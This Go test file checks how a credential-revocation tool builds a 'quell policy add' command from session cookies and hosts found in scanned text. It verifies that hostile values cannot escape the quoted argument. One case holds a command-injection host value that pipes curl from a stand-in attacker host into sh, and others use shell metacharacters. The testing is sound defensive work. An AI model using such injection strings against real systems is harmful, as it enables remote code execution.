package revokers_test

import (
	"strings"
	"testing"

	"github.com/quellhq/quell/revokers"
	"github.com/quellhq/quell/rules"
	"github.com/quellhq/quell/rules/credential"
)

// The command that names an application is complete, and nothing that the
// scanned text chose can leave its place in it.
func TestTheCommandThatNamesAnApplication(t *testing.T) {
	set, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	const rest = ",probe_path=/PAGE-OF-A-SIGNED-IN-USER,logout_path=/LOGOUT'"
	for name, c := range map[string]struct {
		rule, cookie string
		hosts        []string
		want         string
	}{
		"an application that nothing names":   {"unknown-session", "acme_sid", []string{"app.example"}, "webapp=https://app.example,cookie=acme_sid" + rest},
		"a framework that quell can ask":      {"express-session", "connect.sid", []string{"app.example:8443"}, "express=https://app.example:8443,cookie=connect.sid" + rest},
		"one that quell cannot ask by itself": {"rails-session", "_shop_session", []string{"shop.example"}, "webapp=https://shop.example,cookie=_shop_session" + rest},
		"no host in the text":                 {"unknown-session", "acme_sid", nil, "webapp=https://HOST,cookie=acme_sid" + rest},
		"two hosts in the text":               {"unknown-session", "acme_sid", []string{"a.example", "b.example"}, "webapp=https://HOST,cookie=acme_sid" + rest},
		"a host that is a command":            {"unknown-session", "acme_sid", []string{"a';curl evil.example|sh;'"}, "webapp=https://HOST,cookie=acme_sid" + rest},
		"a name with a dollar":                {"unknown-session", "$sid`x`", []string{"a.example"}, "webapp=https://a.example,cookie=$sid`x`" + rest},
		"a name that ends the argument":       {"unknown-session", "a'b", []string{"a.example"}, ""},
		"a loopback address":                  {"unknown-session", "acme_sid", []string{"127.0.0.1:8080"}, "webapp=http://127.0.0.1:8080,cookie=acme_sid" + rest},
		"a public service":                    {"github-session", "user_session", []string{"github.com"}, ""},
		"no cookie":                           {"unknown-session", "", []string{"a.example"}, ""},
	} {
		if set.Rule(c.rule) == nil && c.want != "" {
			t.Fatalf("no rule %s", c.rule)
		}
		got := revokers.AddCommand(set, credential.Credential{Ref: credential.Ref{Rule: c.rule, Cookie: c.cookie, Claims: credential.Claims{Hosts: c.hosts}}})
		want := c.want
		if want != "" {
			want = "quell policy add --instance '" + want
		}
		if got != want || strings.Count(got, "'") > 2 {
			t.Errorf("%s:\n%s\n%s", name, got, want)
		}
	}
}
